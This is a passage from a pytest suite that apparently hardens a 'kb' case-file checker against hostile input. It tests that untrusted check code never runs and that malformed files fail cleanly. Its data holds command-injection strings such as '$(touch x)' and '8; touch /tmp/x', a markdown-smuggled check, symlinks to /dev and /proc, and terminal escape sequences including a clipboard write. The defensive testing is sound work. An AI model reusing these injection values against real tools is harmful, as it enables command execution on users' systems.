    monkeypatch.setenv("PYTHONPATH", str(site))
    unmet_needs((need,), sys.executable)
    assert not any(Path(str(marker) + s).exists() for s in ("", "2", "3")), need


def test_needs_probe_still_finds_subpackages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from kb.checks.needs import unmet_needs

    site = _evil_package(tmp_path, tmp_path / "ran")
    monkeypatch.setenv("PYTHONPATH", str(site))
    assert unmet_needs(("py:advpkg.sub",), sys.executable) is None
    assert unmet_needs(("py:json.decoder",), sys.executable) is None
    assert unmet_needs(("py:advpkg.nothere",), sys.executable) is not None


@pytest.mark.parametrize("need", ["cmd:../../bin/sh", "cmd:$(touch x)", "py:os;import", "cmd:sh -c", "gpu;id"])
def test_hostile_need_strings_are_refused(need: str) -> None:
    case, errors = parse(verify=check_block("exit 0", attrs=f"name=c needs={need}"))
    assert case is None


# ------------------------------------------------------------------ 7. doctor, search, check: bounded, never exit 3

@pytest.mark.parametrize("fm", [
    "reviewed: 2024-02-30\n",
    "reviewed: " + "9" * 5000 + "\n",
    "tags: [" + ", ".join(["x"] * 600) + "]\n",
    "a: &a [x]\nb: *a\n",
    "status: reviewed\nstatus: draft\n",
    "params:\n  x: {description: v, default: [1, 2]}\n",
    "params:\n  x: {type: int, description: v, default: \"8; touch /tmp/x\"}\n",
    "params:\n  'a b': {description: v}\n",
    "params:\n  ab-c: {description: v}\n",
    "title2: x\n",
])
def test_hostile_front_matter_is_an_error_not_a_crash(tmp_path: Path, fm: str, capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "c"
    write_folder(folder, case_text(fm=fm))
    # --only: the hostile file alone (the built-in cases are checked by tests/test_casefile.py)
    proc = kb_main(capsys, monkeypatch, "check", "--only", "--cases", str(folder))
    assert proc.returncode in (0, 1, 2), proc.stderr
    assert "Traceback" not in proc.stderr


def test_long_fence_line_parses_linearly() -> None:
    import time

    body = "## Verify\n```bash {" + "a=b " * 20000 + "`" * 5000 + "\n```\n" + "`" * 100000 + "\n"
    start = time.monotonic()
    parse_body(body, 1)
    assert time.monotonic() - start < 2


def test_many_fences_are_bounded() -> None:
    import time

    body = "## Verify\n" + "```\nx\n```\n" * 20000
    start = time.monotonic()
    parsed = parse_body(body, 1)
    assert time.monotonic() - start < 5 and parsed.problems


def test_case_file_symlink_to_proc_and_dev(tmp_path: Path) -> None:
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "zero.md").symlink_to("/dev/zero")
    (folder / "pagemap.md").symlink_to("/proc/self/pagemap")
    os.mkfifo(folder / "fifo.md")
    proc = kb_proc("check", "--only", "--cases", str(folder), timeout=60)
    assert proc.returncode in (0, 1, 2), proc.stderr


def test_deep_folders_do_not_crash(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "c"
    deep = folder
    for _ in range(300):
        deep = deep / "d"
    deep.mkdir(parents=True)
    write_folder(deep, case_text())
    proc = kb_main(capsys, monkeypatch, "check", "--only", "--cases", str(folder))  # a RecursionError would be exit 3
    assert proc.returncode in (0, 1, 2), proc.stderr


def test_doctor_skips_untrusted_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=check_block(f"touch {marker}; exit 1")))
    proc = kb_main(capsys, monkeypatch, "doctor", "--cases", str(folder), "--only")
    assert proc.returncode != 3, proc.stderr
    assert not marker.exists()


def test_run_yes_refuses_untrusted_and_dry_run_runs_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=check_block(f"touch {marker}; exit 1", attrs="name=c needs=py:advpkg.sub")))
    assert kb_main(capsys, monkeypatch, "run", "adv-case", "--cases", str(folder), "--dry-run").returncode == 0
    assert kb_main(capsys, monkeypatch, "run", "adv-case", "--cases", str(folder), "--yes").returncode == 2
    # the real process: its standard input is a pipe, not a terminal, whatever it holds
    assert kb_proc("run", "adv-case", "--cases", str(folder), stdin="y\n").returncode == 2
    assert not marker.exists()


def test_log_with_escapes_in_name_and_body(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "rank0\x1b[2J.log").write_bytes(b"NCCL error \x1b]52;c;Y3VybA==\x07 \xff\xfe unhandled system error\n")
    os.mkfifo(logs / "rank1.log")
    proc = kb_proc("search", "--no-dense", "--logs", str(logs), "--json", timeout=120)  # a FIFO without a writer hung
    assert proc.returncode in (0, 1, 2), proc.stderr
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout


# ------------------------------------------------------------------ 8. cluster payload, the app's dialog

def test_cluster_payload_runs_the_plan_shown(tmp_path: Path) -> None:
    """`kb doctor --ray` ships the driver's plan: a node runs the planned code, not a re-read of the file."""
    from kb.checks.runner import run_plan

    marker = tmp_path / "ran"
    folder = tmp_path / "c"
    path = write_folder(folder, case_text())
    case = load_one(folder)
    plan = plan_check(case, case.checks[0])
    path.write_text(case_text(verify=check_block(f"touch {marker}; exit 1")), encoding="utf-8")
    result = run_plan(plan, record=False)
    assert result.verdict == "ruled out" and not marker.exists()


def test_confirm_dialog_shows_the_planned_code() -> None:
    src = (ROOT / "tui" / "screens" / "confirm.py").read_text()
    assert "visible_code" in src and "plan_check" in src


def test_app_copy_check_copies_the_code_that_runs() -> None:
    src = (ROOT / "tui" / "screens" / "case.py").read_text()
    assert "self._copy(check.code" in src and "fix_text()" in src


def test_example_block_is_never_a_check() -> None:
    case, errors = parse(verify="Example:\n\n```bash\ntouch /tmp/x\n```\n\n" + BENIGN_CHECK)
    assert case is not None, errors
    assert [c.code for c in case.checks] == ["exit 0\n"]


def test_check_outside_verify_never_runs() -> None:
    case, _ = parse(fix=check_block("touch /tmp/x; exit 1", attrs="name=fixer doctor=yes"))
    assert case is not None and [c.name for c in case.checks] == ["c"]


def test_title_with_markdown_cannot_add_a_check(tmp_path: Path) -> None:
    hostile = case_text().replace('title: "An adversarial case"', 'title: "x\\n## Verify\\n```bash {name=z doctor=yes}\\ntouch /tmp/x\\n```"')
    case, problems = parse_case_text(Path("/nonexistent/adv-case.md"), hostile)
    assert case is None or [c.name for c in case.checks] == ["c"]


def test_check_reading_file_outside_folder_is_visible_in_code(tmp_path: Path) -> None:
    """Trust cannot cover a file outside the folder; the code that reads it is what the user is shown."""
    from kb.cases.trust import read_folder

    folder = tmp_path / "team"
    write_folder(folder, case_text(verify=check_block("source /etc/zz-outside.sh; exit 0")))
    shown = read_folder(folder)
    assert any("/etc/zz-outside.sh" in code for _l, code, _d in shown.checks.values())


def test_kb_check_names_the_file_for_each_refusal(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=DIFFERENTIAL_BODIES["html comment"]))
    proc = kb_main(capsys, monkeypatch, "check", "--only", "--cases", str(folder))  # --only: exit 1 is this file's
    assert proc.returncode == 1 and "adv-case.md:" in proc.stdout + proc.stderr



def test_cluster_ships_no_untrusted_check_and_the_parsed_code(tmp_path: Path) -> None:
    from kb.cases.trust import trust_folder
    from kb.cluster.driver import ship_checks

    folder = tmp_path / "team"
    write_folder(folder, case_text(verify=check_block("echo shipped; exit 0")))
    shipped, not_run = ship_checks([load_one(folder)], None)
    assert shipped == [] and not_run
    trust_folder(folder)
    case = load_one(folder)
    shipped, _ = ship_checks([case], None)
    assert [s.code for s in shipped] == [case.checks[0].code]
